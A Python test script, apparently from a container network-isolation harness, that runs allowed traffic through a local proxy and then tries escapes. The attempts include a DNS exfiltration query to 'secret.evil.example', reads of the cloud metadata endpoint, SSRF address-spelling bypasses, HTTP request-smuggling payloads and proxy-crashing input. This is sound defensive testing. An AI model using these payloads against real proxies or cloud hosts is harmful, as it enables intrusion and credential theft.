#!/usr/bin/python3
"""An extension that uses the hosts that it may reach, then tries to reach more than that.

What it may do is told as {"use", "ended"}, each attack as {"attack", "through"}: what came back
from beyond, or false. NAME, ADDRESS and the ports are parameters.
"""

import http.client
import json
import os
import random
import socket
import struct
import urllib.request

NAME, ADDRESS = os.environ["NAME"], os.environ["ADDRESS"]
HTTP, ECHO, OTHER, UDP = (int(os.environ[name]) for name in ("HTTP", "ECHO", "OTHER", "UDP"))
PROXY = ("127.0.77.1", 3128)
PATIENCE_S = 1.0
USES, ATTACKS = [], []


def use(function):
    USES.append(function)
    return function


def attack(function):
    ATTACKS.append(function)
    return function


def talk(sock, words):
    sock.sendall(words)
    sock.shutdown(socket.SHUT_WR)
    answer = b""
    while data := sock.recv(65536):
        answer += data
    return answer


def connect(host, port, words=None):
    with socket.create_connection((host, port), PATIENCE_S) as sock:
        return talk(sock, words or f"{NAME}\n".encode())


def through_proxy(request):
    """The proxy's whole answer; where there is none, there is nobody to be abused."""
    return connect(*PROXY, request.encode("latin-1"))


def tunnel(target, *fields):
    lines = [f"CONNECT {target} HTTP/1.1", *fields, "", f"{NAME} {target}"]
    answer = through_proxy("\r\n".join(lines))
    return answer if answer.startswith(b"HTTP/1.1 200") else False


def asked(request):
    answer = through_proxy(request)
    return answer if b" 200 OK" in answer.partition(b"\r\n")[0] else False


@use
def http_by_the_proxy_of_the_environment():
    return urllib.request.urlopen(f"http://{ADDRESS}:{HTTP}/urllib", timeout=PATIENCE_S).read()


@use
def plain_http():
    client = http.client.HTTPConnection(ADDRESS, HTTP, timeout=PATIENCE_S)
    client.request("GET", "/plain")
    first = client.getresponse().read()
    client.request("POST", "/plain", body=b"kept alive")
    return first + b", " + client.getresponse().read()


@use
def a_body_through_the_proxy():
    client = http.client.HTTPConnection(*PROXY, timeout=PATIENCE_S)
    client.request("POST", f"http://{ADDRESS}:{HTTP}/sized", body=b"x" * 100_000)
    return len(client.getresponse().read())


@use
def chunks_through_the_proxy():
    client = http.client.HTTPConnection(*PROXY, timeout=PATIENCE_S)
    client.request("POST", f"http://{ADDRESS}:{HTTP}/chunked", body=iter([b"a" * 5000, b"b"]))
    return len(client.getresponse().read())


@use
def a_tunnel():
    return tunnel(f"{ADDRESS}:{ECHO}").partition(b"\r\n\r\n")[2]


@use
def a_megabyte_there_and_back():
    words = random.Random(6).randbytes(1 << 20)
    with socket.create_connection((ADDRESS, ECHO), PATIENCE_S) as sock:
        back = b""
        for start in range(0, len(words), 1 << 14):
            sock.sendall(words[start : start + (1 << 14)])
            while len(back) < start:
                back += sock.recv(1 << 16)
        sock.shutdown(socket.SHUT_WR)
        while data := sock.recv(1 << 16):
            back += data
    return back == words


@use
def many_at_a_time():
    socks = [socket.create_connection((ADDRESS, ECHO), PATIENCE_S) for _ in range(40)]
    answers = {talk(sock, b"one of many") for sock in socks}
    return len(socks), len(answers)


@attack
def another_port():
    return connect(ADDRESS, OTHER)


@attack
def another_port_by_ipv6():
    with socket.socket(socket.AF_INET6) as sock:
        sock.settimeout(PATIENCE_S)
        sock.connect((f"::ffff:{ADDRESS}", OTHER))
        return talk(sock, NAME.encode())


@attack
def another_port_of_the_name():
    return connect("localhost", OTHER)


@attack
def datagrams():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(PATIENCE_S / 4)
        sock.sendto(NAME.encode(), (ADDRESS, UDP))
        return sock.recv(100)


@attack
def abstract_socket():
    with socket.socket(socket.AF_UNIX) as sock:
        sock.connect(f"\0containerdeploy-test-{OTHER}")
        return talk(sock, NAME.encode())


@attack
def interfaces():
    return [name for _, name in socket.if_nameindex() if name != "lo"]


@attack
def any_route():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("8.8.8.8", 53))
        return sock.getsockname()[0]


@attack
def any_route_of_version_6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sock:
        sock.connect(("2001:4860:4860::8888", 53))
        return sock.getsockname()[0]


@attack
def dns():
    """Ask each server that the resolver knows, and the usual ones, for a name of our own."""
    with open("/etc/resolv.conf") as stream:
        servers = [line.split()[1] for line in stream if line.startswith("nameserver ")]
    query = struct.pack(">6H", 6, 256, 1, 0, 0, 0) + b"\6secret\4evil\7example\0\0\1\0\1"
    answers = []
    for server in (*servers, "127.0.0.1", "127.0.0.11", "127.0.0.53"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(PATIENCE_S / 10)
            try:
                sock.sendto(query, (server, 53))
                answers.append(sock.recv(512).hex())
            except OSError:
                continue
    return servers or answers


@attack
def metadata():
    return connect("169.254.169.254", 80, b"GET / HTTP/1.0\r\n\r\n")


@attack
def tunnel_to_another_port():
    return tunnel(f"{ADDRESS}:{OTHER}")


@attack
def tunnel_to_a_name_of_the_helper():
    return tunnel(f"localhost:{OTHER}")


@attack
def tunnel_to_metadata():
    return tunnel("169.254.169.254:80") or tunnel("[fd00:ec2::254]:80")


@attack
def tunnel_by_odd_spellings():
    number = struct.unpack(">I", socket.inet_aton(ADDRESS))[0]
    parts = ADDRESS.split(".")
    spellings = (
        *(str(number), hex(number), f"0{number:o}", f"[::ffff:{ADDRESS}]", f"{ADDRESS}."),
        *(".".join(f"{int(part):#05o}"[1:].replace("o", "0") for part in parts), f"{ADDRESS}%00"),
        *(f"a@{ADDRESS}", f"{ADDRESS}:{ECHO}@{ADDRESS}", f"{ADDRESS}#", f"{ADDRESS}:{ECHO}"),
        *(ADDRESS.replace(".", "%2e"), f" {ADDRESS}", f"{ADDRESS}\t", f"{ADDRESS}\0"),
        *("0", "localhost.", "LOCALHOST", "ip6-localhost", "[::1]", "[::]", "127.1", "0x7f.1"),
    )
    return [one for one in spellings if tunnel(f"{one}:{OTHER}")]


@attack
def smuggled_to_another_host():
    """Each asks for the listed host and, in some second way, for another."""
    allowed, other = f"{ADDRESS}:{HTTP}", f"{ADDRESS}:{OTHER}"
    second = f"GET http://{other}/second HTTP/1.1\r\nHost: {other}\r\n\r\n"
    first = f"POST http://{allowed}/first HTTP/1.1\r\nHost: {allowed}\r\n"
    heads = (
        f"GET http://{allowed}/odd HTTP/1.1\r\nHost: {other}\r\n\r\n",
        f"GET http://{allowed}/odd HTTP/1.1\r\nHost: {allowed}\r\nHost: {other}\r\n\r\n",
        f"{first}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{second}",
        f"{first}Content-Length: 0\r\nContent-Length: {len(second)}\r\n\r\n{second}",
        f"{first}Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n{second}",
        f"{first}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{second}",
        f"{first}Connection: transfer-encoding\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        f"GET http://{allowed}/odd HTTP/1.1\nHost: {allowed}\n\n{second}",
        f"GET http://{allowed}/odd HTTP/1.1\r\n X: folded\r\n\r\n",
        f"GET http://{allowed}/odd\rX HTTP/1.1\r\n\r\n",
        f"GET http://a@{other}/odd HTTP/1.1\r\n\r\n",
        f"GET http://{allowed}@{other}/odd HTTP/1.1\r\n\r\n",
        f"GET /odd HTTP/1.1\r\nHost: {allowed}\r\n\r\n",
        f"GET https://{allowed}/odd HTTP/1.1\r\n\r\n",
        f"GET http://{other}/odd HTTP/1.1\r\nHost: {allowed}\r\n\r\n",
    )
    return [head for head in heads if asked(head)]


@attack
def second_request_to_another_host():
    """Kept alive after a request that is allowed."""
    allowed, other = f"{ADDRESS}:{HTTP}", f"{ADDRESS}:{OTHER}"
    with socket.create_connection(PROXY, PATIENCE_S) as sock:
        sock.sendall(f"GET http://{allowed}/kept HTTP/1.1\r\nHost: {allowed}\r\n\r\n".encode())
        assert b" 200 OK" in sock.recv(65536)
        answer = talk(sock, f"GET http://{other}/second HTTP/1.1\r\n\r\n".encode())
        return b"HTTP/1" in answer and answer


@attack
def crash_the_proxy():
    """Whatever is thrown at it, it answers the next one."""
    for junk in (b"\0" * 70_000, b"GET " + b"a" * 70_000, b"\r\n\r\n", b"\xff\xfe\r\n\r\n", b""):
        try:
            connect(*PROXY, junk)
        except OSError:
            continue
    half_open = [socket.create_connection(PROXY, PATIENCE_S) for _ in range(30)]
    for sock in half_open:
        sock.sendall(b"GET http://")
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        sock.close()
    return not tunnel(f"{ADDRESS}:{ECHO}")


def tried(function):
    try:
        ended = function()
    except (OSError, http.client.HTTPException, AssertionError) as err:
        return False, repr(err)
    return ended if not isinstance(ended, bytes) else ended.decode("latin-1"), ""


for kind, functions in (("use", USES), ("attack", ATTACKS)):
    for function in functions:
        through, why_not = tried(function)
        told = {kind: function.__name__, "through": through, "why_not": why_not}
        print(json.dumps(told), flush=True)
